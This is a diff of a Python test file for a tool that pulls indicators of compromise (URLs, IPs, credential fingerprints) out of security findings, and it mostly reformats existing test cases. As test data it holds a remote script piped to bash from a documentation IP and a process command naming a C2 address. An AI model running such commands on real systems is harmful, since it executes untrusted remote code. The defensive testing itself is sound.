@@ -29,9 +29,9 @@ def test_structured_fields_give_ips_urls_hashes_packages():
 
 
 def test_urls_and_ips_in_malicious_lines_but_not_public_hosts():
-    log = finding("log_pattern", "critical", "Remote script piped to a shell: 1 line(s)",
-                  detail="First line: curl -sSL http://203.0.113.7/p.sh | bash; Looking in indexes: "
-                         "https://pypi.org/simple, git clone https://github.com/org/repo", path="logs/ci.log")  # fmt: skip
+    detail = ("First line: curl -sSL http://203.0.113.7/p.sh | bash; Looking in indexes: https://pypi.org/simple, "
+              "git clone https://github.com/org/repo")  # fmt: skip
+    log = finding("log_pattern", "critical", "Remote script piped to a shell", detail=detail, path="logs/ci.log")
     proc = finding("suspicious_process", "high", "python3 /tmp/x.py", command="python3 /tmp/x.py --c2 198.51.100.9")
     found = indicators_of("compromised", [log, proc])
     assert values(found, "url") == ["http://203.0.113.7/p.sh"]
@@ -40,16 +40,17 @@ def test_urls_and_ips_in_malicious_lines_but_not_public_hosts():
 
 
 def test_a_fork_named_by_a_finding_is_kept_but_its_host_is_not():
-    fork = finding("dependency_untrusted_source", "high", "safetensors from a VCS checkout",
-                   url="git+https://github.com/hf-safetensors/safetensors.git@5d0c2f6", package="safetensors")  # fmt: skip
+    url = "git+https://github.com/hf-safetensors/safetensors.git@5d0c2f6"
+    fork = finding("dependency_untrusted_source", "high", "safetensors from a VCS checkout", url=url, package="s")
     found = indicators_of("compromised", [fork])
     assert values(found, "url") == ["git+https://github.com/hf-safetensors/safetensors.git@5d0c2f6"]
     assert values(found, "host") == []
 
 
 def test_credentials_by_rule_and_fingerprint_never_by_value():
-    secret = finding("secret_exposed", "high", "Hugging Face token in clear: 6 line(s) in logs/ci.log",
-                     detail="HF_TOKEN: hf_DV…[redacted]", path="logs/ci.log", fingerprints="sha256:1a2b3c4d5e6f")  # fmt: skip
+    title = "Hugging Face token in clear: 6 line(s) in logs/ci.log"
+    secret = finding("secret_exposed", "high", title, detail="HF_TOKEN: hf_DV…[redacted]", path="logs/ci.log",
+                     fingerprints="sha256:1a2b3c4d5e6f")  # fmt: skip
     found = indicators_of("compromised", [secret])
     assert values(found, "credential") == ["Hugging Face token in clear sha256:1a2b3c4d5e6f"]
     assert not any("hf_DV" in v for v in values(found))
